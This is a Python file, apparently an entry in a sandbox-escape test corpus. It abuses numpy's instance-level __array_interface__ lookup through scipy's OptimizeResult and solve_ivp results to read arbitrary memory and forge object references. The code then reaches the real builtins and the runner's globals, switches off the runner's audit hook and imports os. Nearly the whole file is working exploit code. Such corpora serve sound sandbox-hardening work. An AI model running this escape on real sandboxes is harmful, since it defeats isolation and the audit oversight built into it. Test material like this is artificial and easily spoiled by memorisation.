# technique: numpy looks __array_interface__ up on the instance (not the class): scipy's OptimizeResult (a dict whose __getattr__ is __getitem__) built with that key answers with the snippet's dict, an interface at any address; typestr |O forges references, and from the runner's globals the _Audit instance is switched off
# source: numpy PyArray_LookupSpecial_OnInstance / PyArray_FromInterface, scipy.optimize.OptimizeResult, scipy.integrate.solve_ivp's OdeResult
import numpy as np
import scipy.optimize
import scipy.integrate

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

carrier = [None]
def via_optimize_result(d):
    return scipy.optimize.OptimizeResult(**{dn('array_interface'): d})
def via_ode_result(d):
    r = scipy.integrate.solve_ivp(lambda t, y: -y, (0, 1), [1.0])
    r[dn('array_interface')] = d
    return r
def mem(addr, typestr):
    d = {'data': (addr, False), 'shape': (1,), 'typestr': typestr, 'version': 3}
    return np.asarray(carrier[0](d))
def r64(addr): return int(mem(addr, '<u8')[0])
def fakeobj(addr):
    b = bytearray(addr.to_bytes(8, 'little'))
    return mem(r64(id(b) + 32), '|O')[0]
def builtins_dict():
    # a Python function's func_builtins (CPython 3.11: offset 24)
    return fakeobj(r64(id(scipy.optimize.minimize) + 24))
def runner_globals():
    # display() is the runner's own function: its func_globals (offset 16)
    return fakeobj(r64(id(display) + 16))
def os_after_disarm():
    g = runner_globals()
    aud = fakeobj(r64(id(g['_PKG_TRUST'][0]) + 24))  # the bound method's self: _Audit
    aud.armed = False
    return g[dn('builtins')][dn('import')]('os')
carrier[0] = via_optimize_result
attempt('OptimizeResult(__array_interface__) -> real builtins', builtins_dict)
attempt('OptimizeResult(__array_interface__) -> runner globals', runner_globals)
attempt('OptimizeResult(__array_interface__) -> audit hook off, os', os_after_disarm)
carrier[0] = via_ode_result
attempt('solve_ivp OdeResult[__array_interface__] -> real builtins', builtins_dict)
